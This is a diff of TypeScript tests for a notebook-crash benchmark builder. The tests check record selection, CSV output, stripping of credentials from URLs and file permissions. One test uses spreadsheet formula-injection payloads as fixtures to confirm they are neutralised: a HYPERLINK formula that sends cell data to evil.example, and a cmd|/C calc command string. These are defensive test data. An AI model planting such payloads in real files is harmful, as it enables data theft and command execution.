@@ -3,13 +3,36 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
-import { checkSchema, formatJson, type Benchmark, type Instance, type InstanceVerification, type Labels, type VerificationReport } from '@junobench/core';
-import { BENCHMARK_CSV_COLUMNS, assembleBenchmark, createBenchmarkStage, formatBenchmarkCsv } from './stage-benchmark.js';
+import {
+  checkSchema,
+  formatJson,
+  type Benchmark,
+  type Instance,
+  type InstanceVerification,
+  type Labels,
+  type VerificationReport,
+} from '@junobench/core';
+import {
+  BENCHMARK_CSV_COLUMNS,
+  assembleBenchmark,
+  createBenchmarkStage,
+  formatBenchmarkCsv,
+} from './stage-benchmark.js';
 
-const labels: Labels = { library: 'pandas', crashType: 'key error', rootCause: 'API misuse', pipelineStage: 'data preparation', diagnosis: 'column renamed, "price" gone' };
+const labels: Labels = {
+  library: 'pandas',
+  crashType: 'key error',
+  rootCause: 'API misuse',
+  pipelineStage: 'data preparation',
+  diagnosis: 'column renamed, "price" gone',
+};
 const instance = (id: string): Instance => ({
   id,
-  source: { platform: 'kaggle', notebookUrl: `https://www.kaggle.com/code/x/${id}`, datasets: [{ title: 'Houses', license: 'CC0: Public Domain', url: 'https://k/d' }] },
+  source: {
+    platform: 'kaggle',
+    notebookUrl: `https://www.kaggle.com/code/x/${id}`,
+    datasets: [{ title: 'Houses', license: 'CC0: Public Domain', url: 'https://k/d' }],
+  },
   crash: { ename: 'KeyError', evalue: "'price'", match: 'exact', cell: 3 },
   execution: { order: 'file' },
   requires: ['pandas'],
@@ -22,8 +45,21 @@ const verdict = (id: string, status: InstanceVerification['status']): InstanceVe
     status,
     verified: status === 'verified',
     flaky: false,
-    reproduced: { version: 'reproduced', outcome: status === 'skipped' ? 'skipped-env' : status === 'verified' ? 'crash-reproduced' : 'no-crash', cells: [], durationMs: 1, runtime, ...(status === 'skipped' ? { reason: 'required module tensorflow not importable' } : {}) },
-    fixed: { version: 'fixed', outcome: status === 'skipped' ? 'skipped-env' : 'fixed-ok', cells: [], durationMs: 1, runtime },
+    reproduced: {
+      version: 'reproduced',
+      outcome: status === 'skipped' ? 'skipped-env' : status === 'verified' ? 'crash-reproduced' : 'no-crash',
+      cells: [],
+      durationMs: 1,
+      runtime,
+      ...(status === 'skipped' ? { reason: 'required module tensorflow not importable' } : {}),
+    },
+    fixed: {
+      version: 'fixed',
+      outcome: status === 'skipped' ? 'skipped-env' : 'fixed-ok',
+      cells: [],
+      durationMs: 1,
+      runtime,
+    },
     contentHash: 'h',
     cached: false,
   };
@@ -35,7 +71,12 @@ const report: VerificationReport = {
 };
 
 describe('assembleBenchmark', () => {
-  const b = assembleBenchmark([instance('a'), instance('b'), instance('c')], report, { a: labels, b: labels, c: labels }, { name: 'JunoBench' });
+  const b = assembleBenchmark(
+    [instance('a'), instance('b'), instance('c')],
+    report,
+    { a: labels, b: labels, c: labels },
+    { name: 'JunoBench' },
+  );
 
   it('lists verified instances and skipped ones (with the reason), never failing ones', () => {
     expect(b.instances.map((e) => [e.id, e.verification.status])).toEqual([
@@ -47,7 +88,9 @@ describe('assembleBenchmark', () => {
   });
 
   it('requires final labels for every included instance', () => {
-    expect(() => assembleBenchmark([instance('a')], report, {}, { name: 'x' })).toThrow(/no final labels for instance a/);
+    expect(() => assembleBenchmark([instance('a')], report, {}, { name: 'x' })).toThrow(
+      /no final labels for instance a/,
+    );
   });
 
   it('writes a CSV with a header and quoted fields', () => {
@@ -62,13 +105,29 @@ describe('assembleBenchmark', () => {
 describe('benchmark.csv is safe to open in a spreadsheet', () => {
   const hostile = {
     ...instance('f'),
-    crash: { ename: 'ValueError', evalue: '=HYPERLINK("http://evil.example/?"&A1,"click")', match: 'exact' as const, cell: 3 },
-    source: { platform: 'kaggle' as const, datasets: [{ title: '@SUM(1+1)*cmd|/C calc!A0', license: '+CC0', url: 'https://k/d' }] },
+    crash: {
+      ename: 'ValueError',
+      evalue: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      match: 'exact' as const,
+      cell: 3,
+    },
+    source: {
+      platform: 'kaggle' as const,
+      datasets: [{ title: '@SUM(1+1)*cmd|/C calc!A0', license: '+CC0', url: 'https://k/d' }],
+    },
   };
-  const b = assembleBenchmark([hostile], { ...report, instances: [verdict('f', 'verified')] }, { f: { ...labels, diagnosis: '-2+3 then\ttab' } }, { name: 'JunoBench' });
+  const b = assembleBenchmark(
+    [hostile],
+    { ...report, instances: [verdict('f', 'verified')] },
+    { f: { ...labels, diagnosis: '-2+3 then\ttab' } },
+    { name: 'JunoBench' },
+  );
 
   it('neutralises cells beginning with = + - @ tab CR (read back with a CSV parser), while the JSON keeps the exact text', () => {
-    const rows = parse(formatBenchmarkCsv(b), { columns: true }) as Record<(typeof BENCHMARK_CSV_COLUMNS)[number], string>[];
+    const rows = parse(formatBenchmarkCsv(b), { columns: true }) as Record<
+      (typeof BENCHMARK_CSV_COLUMNS)[number],
+      string
+    >[];
     expect(rows[0]).toMatchObject({
       crash_evalue: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
       datasets: `'@SUM(1+1)*cmd|/C calc!A0`,
@@ -83,10 +142,15 @@ describe('benchmark.csv is safe to open in a spreadsheet', () => {
 });
 
 describe('credentials in URLs are not published', () => {
-  const secretUrl = 'https://someone:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/o/r/blob/main/nb.ipynb?access_token=s3cr3t&plain=1';
+  const secretUrl =
+    'https://someone:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/o/r/blob/main/nb.ipynb?access_token=s3cr3t&plain=1';
   const leaky: Instance = {
     ...instance('leaky'),
-    source: { platform: 'github', notebookUrl: secretUrl, datasets: [{ title: 'D', license: 'CC0', url: 'https://data.example/d.zip?token=tok123' }] },
+    source: {
+      platform: 'github',
+      notebookUrl: secretUrl,
+      datasets: [{ title: 'D', license: 'CC0', url: 'https://data.example/d.zip?token=tok123' }],
+    },
   };
 
   it('strips user-info and token parameters from benchmark.json/.csv and curated instance.json, warning with the instance', async () => {
@@ -95,9 +159,24 @@ describe('credentials in URLs are not published', () => {
       const dir = path.join(root, 'raw/instances/leaky');
       await mkdir(dir, { recursive: true });
       await writeFile(path.join(dir, 'instance.json'), formatJson(leaky));
-      await writeFile(path.join(root, 'verification.json'), formatJson({ ...report, summary: { total: 1, verified: 1, notVerified: 0, skipped: 0, flaky: 0 }, instances: [verdict('leaky', 'verified')] }));
-      await writeFile(path.join(root, 'final-labels.jsonl'), `${JSON.stringify({ instance: 'leaky', labels, sources: { library: 'agreed', crashType: 'agreed', rootCause: 'agreed', pipelineStage: 'agreed' } })}\n`);
-      const stage = createBenchmarkStage({ instancesDir: 'raw/instances', verification: 'verification.json', finalLabels: 'final-labels.jsonl', outDir: 'curated' });
+      await writeFile(
+        path.join(root, 'verification.json'),
+        formatJson({
+          ...report,
+          summary: { total: 1, verified: 1, notVerified: 0, skipped: 0, flaky: 0 },
+          instances: [verdict('leaky', 'verified')],
+        }),
+      );
+      await writeFile(
+        path.join(root, 'final-labels.jsonl'),
+        `${JSON.stringify({ instance: 'leaky', labels, sources: { library: 'agreed', crashType: 'agreed', rootCause: 'agreed', pipelineStage: 'agreed' } })}\n`,
+      );
+      const stage = createBenchmarkStage({
+        instancesDir: 'raw/instances',
+        verification: 'verification.json',
+        finalLabels: 'final-labels.jsonl',
+        outDir: 'curated',
+      });
       const result = await stage.run({ root, abs: (p) => path.resolve(root, p), onProgress: () => undefined });
       const published = ['curated/benchmark.json', 'curated/benchmark.csv', 'curated/instances/leaky/instance.json'];
       for (const f of published) {
@@ -105,7 +184,10 @@ describe('credentials in URLs are not published', () => {
         expect(text, f).not.toMatch(/ghp_|s3cr3t|tok123|someone/);
       }
       const json = JSON.parse(await readFile(path.join(root, 'curated/benchmark.json'), 'utf8')) as Benchmark;
-      expect(json.instances[0]!.source).toMatchObject({ notebookUrl: 'https://github.com/o/r/blob/main/nb.ipynb?plain=1', datasets: [{ url: 'https://data.example/d.zip' }] });
+      expect(json.instances[0]!.source).toMatchObject({
+        notebookUrl: 'https://github.com/o/r/blob/main/nb.ipynb?plain=1',
+        datasets: [{ url: 'https://data.example/d.zip' }],
+      });
       expect(result.warnings).toEqual([
         'leaky: removed credentials from source.notebookUrl (user-info, access_token parameter) before publishing; fix raw/instances/leaky/instance.json',
         'leaky: removed credentials from source.datasets[0].url (token parameter) before publishing; fix raw/instances/leaky/instance.json',
@@ -124,7 +206,7 @@ describe('curated/instances permissions', () => {
   it.each([
     ['022', 0o022, 0o755, 0o644],
     ['027', 0o027, 0o750, 0o640],
-  ])('under umask %s: folders and files get the umask\'s modes', async (_name, umask, dirMode, fileMode) => {
+  ])("under umask %s: folders and files get the umask's modes", async (_name, umask, dirMode, fileMode) => {
     const root = await mkdtemp(path.join(tmpdir(), 'junobench-stage-benchmark-'));
     const old = process.umask(umask);
     try {
@@ -135,13 +217,41 @@ describe('curated/instances permissions', () => {
       // A private raw file and folder must not make the published copy private.
       await chmod(path.join(dir, 'data/sub/t.csv'), 0o600);
       await chmod(path.join(dir, 'data/sub'), 0o700);
-      await writeFile(path.join(root, 'verification.json'), formatJson({ ...report, summary: { total: 1, verified: 1, notVerified: 0, skipped: 0, flaky: 0 }, instances: [verdict('a', 'verified')] }));
-      await writeFile(path.join(root, 'final-labels.jsonl'), `${JSON.stringify({ instance: 'a', labels, sources: { library: 'agreed', crashType: 'agreed', rootCause: 'agreed', pipelineStage: 'agreed' } })}\n`);
-      const stage = createBenchmarkStage({ instancesDir: 'raw/instances', verification: 'verification.json', finalLabels: 'final-labels.jsonl', outDir: 'curated' });
+      await writeFile(
+        path.join(root, 'verification.json'),
+        formatJson({
+          ...report,
+          summary: { total: 1, verified: 1, notVerified: 0, skipped: 0, flaky: 0 },
+          instances: [verdict('a', 'verified')],
+        }),
+      );
+      await writeFile(
+        path.join(root, 'final-labels.jsonl'),
+        `${JSON.stringify({ instance: 'a', labels, sources: { library: 'agreed', crashType: 'agreed', rootCause: 'agreed', pipelineStage: 'agreed' } })}\n`,
+      );
+      const stage = createBenchmarkStage({
+        instancesDir: 'raw/instances',
+        verification: 'verification.json',
+        finalLabels: 'final-labels.jsonl',
+        outDir: 'curated',
+      });
       await stage.run({ root, abs: (p) => path.resolve(root, p), onProgress: () => undefined });
       const mode = async (rel: string) => (await stat(path.join(root, rel))).mode & 0o777;
-      for (const d of ['curated', 'curated/instances', 'curated/instances/a', 'curated/instances/a/data', 'curated/instances/a/data/sub']) expect((await mode(d)).toString(8), d).toBe(dirMode.toString(8));
-      for (const f of ['curated/benchmark.json', 'curated/benchmark.csv', 'curated/instances/a/instance.json', 'curated/instances/a/data/sub/t.csv']) expect((await mode(f)).toString(8), f).toBe(fileMode.toString(8));
+      for (const d of [
+        'curated',
+        'curated/instances',
+        'curated/instances/a',
+        'curated/instances/a/data',
+        'curated/instances/a/data/sub',
+      ])
+        expect((await mode(d)).toString(8), d).toBe(dirMode.toString(8));
+      for (const f of [
+        'curated/benchmark.json',
+        'curated/benchmark.csv',
+        'curated/instances/a/instance.json',
+        'curated/instances/a/data/sub/t.csv',
+      ])
+        expect((await mode(f)).toString(8), f).toBe(fileMode.toString(8));
     } finally {
       process.umask(old);
       await rm(root, { recursive: true, force: true });
